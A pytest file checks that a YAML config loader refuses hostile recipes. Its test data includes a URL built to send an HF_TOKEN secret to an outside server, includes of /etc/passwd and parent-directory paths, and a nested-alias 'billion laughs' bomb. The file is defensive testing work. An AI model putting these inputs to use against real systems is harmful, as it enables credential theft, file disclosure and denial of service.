"""A shared recipe is input, not code (red-team issue 29): it cannot read the environment, include
files from elsewhere on the machine, or stall the loader with YAML aliases."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from megatron_cascade.config import load_config
from megatron_cascade.config.rules import ConfigError
from megatron_cascade.config.yaml_safety import CONFIG_ENV_VAR, CONFIG_INCLUDE_DIRS_VAR

EXAMPLES = Path(__file__).resolve().parents[2] / "examples" / "tiny_cascade"
CI = EXAMPLES / "ci.yaml"


def _recipe(tmp_path: Path, body: str) -> str:
    """A recipe next to a copy of the CI config (so its include is inside its own folder)."""
    for name in ("ci.yaml", "cascade.yaml"):
        (tmp_path / name).write_text((EXAMPLES / name).read_text())
    if not (tmp_path / "data").exists():
        (tmp_path / "data").symlink_to(EXAMPLES / "data")
    path = tmp_path / "recipe.yaml"
    path.write_text("defaults: [ci.yaml]\n" + body)
    return str(path)


def test_a_recipe_cannot_read_a_secret_from_the_environment(tmp_path, monkeypatch):
    """Before: ${oc.env:HF_TOKEN} in a reward URL sent the token to that server, and config.yaml in the
    run folder recorded it in clear."""
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    monkeypatch.setenv("SCRATCH", str(tmp_path))
    leak = "domains:\n  math:\n    reward:\n      name: reward_model\n      kwargs: {url: 'http://x/${oc.env:HF_TOKEN}'}\n"
    with pytest.raises(ConfigError, match=r"domains.math.reward.kwargs.url: '\$\{oc.env:HF_TOKEN\}' reads the environment"):
        load_config(_recipe(tmp_path, leak), check_paths=False)
    monkeypatch.setenv(CONFIG_ENV_VAR, "HF_TOKEN,SCRATCH")  # even when allowed: it looks like a secret
    with pytest.raises(ConfigError, match="looks like a secret"):
        load_config(_recipe(tmp_path, leak), check_paths=False)
    cfg = load_config(_recipe(tmp_path, "output_dir: ${oc.env:SCRATCH}/run\n"), check_paths=False)
    assert cfg.output_dir == f"{tmp_path}/run"  # an allowed, non-secret variable works
    monkeypatch.delenv(CONFIG_ENV_VAR)
    with pytest.raises(ConfigError, match=f"list it in \\${CONFIG_ENV_VAR}"):
        load_config(str(CI), ["output_dir=${oc.env:SCRATCH}/run"], check_paths=False)  # overrides too
    with pytest.raises(ConfigError, match="resolver '\\$\\{oc.decode:...\\}' is not allowed"):
        load_config(str(CI), ["output_dir=${oc.decode:'x'}"], check_paths=False)
    assert load_config(str(CI), ["eval.temperature=${rollout.temperature}"], check_paths=False) \
        .eval.temperature == load_config(str(CI), check_paths=False).rollout.temperature  # references stay


@pytest.mark.parametrize("include", ["/etc/passwd", "../elsewhere.yaml"])
def test_includes_stay_in_the_config_folder_unless_the_operator_allows_another(tmp_path, monkeypatch, include):
    """Before: defaults: [/abs/path] and [../x.yaml] merged any YAML file on the machine."""
    monkeypatch.delenv(CONFIG_INCLUDE_DIRS_VAR, raising=False)
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    (tmp_path / "elsewhere.yaml").write_text("seed: 7\n")
    path = recipes / "recipe.yaml"
    path.write_text(f"defaults: [{include}]\n")
    with pytest.raises(ConfigError, match="outside the config's folder"):
        load_config(str(path), check_paths=False)
    shared = tmp_path / "shared"
    shared.mkdir()
    for name in ("ci.yaml", "cascade.yaml"):
        (shared / name).write_text((EXAMPLES / name).read_text())
    path.write_text(f"defaults: [{shared / 'ci.yaml'}]\n")
    with pytest.raises(ConfigError, match=CONFIG_INCLUDE_DIRS_VAR):
        load_config(str(path), check_paths=False)
    monkeypatch.setenv(CONFIG_INCLUDE_DIRS_VAR, str(shared))
    assert load_config(str(path), check_paths=False).seed == load_config(str(CI), check_paths=False).seed


def test_the_shipped_recipes_include_each_other_without_an_allowance(tmp_path, monkeypatch):
    """Before: examples/nemotron_cascade2/nemotron_3_nano/cascade.yaml (``../base.yaml``) was refused unless
    the operator listed the examples folder, and the tests hid it by listing it for every test. The
    shipped recipes are as trusted as the code; a recipe elsewhere still cannot include them by ``..``
    into other folders."""
    monkeypatch.delenv(CONFIG_INCLUDE_DIRS_VAR, raising=False)
    nano = EXAMPLES.parent / "nemotron_cascade2" / "nemotron_3_nano" / "cascade.yaml"
    assert load_config(str(nano), check_paths=False).model.architecture == "hybrid"
    path = tmp_path / "recipe.yaml"
    path.write_text(f"defaults: [{CI}]\n")  # a user's recipe on top of a shipped one
    assert load_config(str(path), check_paths=False).seed == load_config(str(CI), check_paths=False).seed


def _laughs(levels: int) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, levels + 1)]
    return "{" + ", ".join(lines) + "}"


def test_yaml_aliases_cannot_stall_the_loader(tmp_path):
    """Before: a 307-character override with nested aliases took 98 s to load (x10 per level)."""
    start = time.monotonic()
    with pytest.raises(ConfigError, match="expands to .* nodes"):
        load_config(str(CI), [f"seed={_laughs(8)}"], check_paths=False)
    with pytest.raises(ConfigError, match="expands to .* nodes"):
        load_config(_recipe(tmp_path, f"seed_bomb: {_laughs(8)}\n"), check_paths=False)
    with pytest.raises(ConfigError, match="at most 65,536"):
        load_config(str(CI), ["output_dir=" + "x" * 70_000], check_paths=False)
    assert time.monotonic() - start < 30  # refused at composition, not after expanding 10^9 nodes
    # Aliases a config really uses still load.
    cfg = load_config(_recipe(tmp_path, "rollout: &r {temperature: 0.9}\n"), check_paths=False)
    assert cfg.rollout.temperature == 0.9


def test_timeouts_are_bounded_at_load():
    """Before: timeout_s: 1e10 passed validation, then the step crashed (OverflowError in a wait)."""
    for key in ("domains.math.reward.timeout_s", "domains.math.environment.step_timeout_s"):
        with pytest.raises(ConfigError, match=re.escape(f"{key}=10000000000.0 must be in (0, 86400]")):
            load_config(str(CI), [f"{key}=1e10"], check_paths=False)
